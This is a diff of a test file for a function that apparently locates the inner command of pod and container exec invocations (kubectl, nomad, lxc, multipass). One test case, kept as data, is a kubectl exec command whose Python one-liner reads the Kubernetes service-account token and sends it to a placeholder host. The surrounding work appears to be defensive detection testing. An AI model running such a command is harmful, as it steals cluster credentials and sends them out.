@@ -18,6 +18,8 @@ describe("a pod's command as this stage's", () => {
     expect(at("nomad alloc exec -task web abc123 /bin/sh -c x")).toBe(6);
     expect(at("kubectl exec -n x pod -- ls /data")).toBe(-1);
     expect(at("kubectl get pods -- python")).toBe(-1);
+    expect(at("lxc exec ct -- sh -c x")).toBe(4);
+    expect(at("multipass exec vm -- make test")).toBe(-1);
   });
   test.each([
     `kubectl exec deploy/web -- python3 -c "import urllib.request as u;u.urlopen('https://pod-out.example/t', open('/var/run/secrets/kubernetes.io/serviceaccount/token','rb').read())"`,
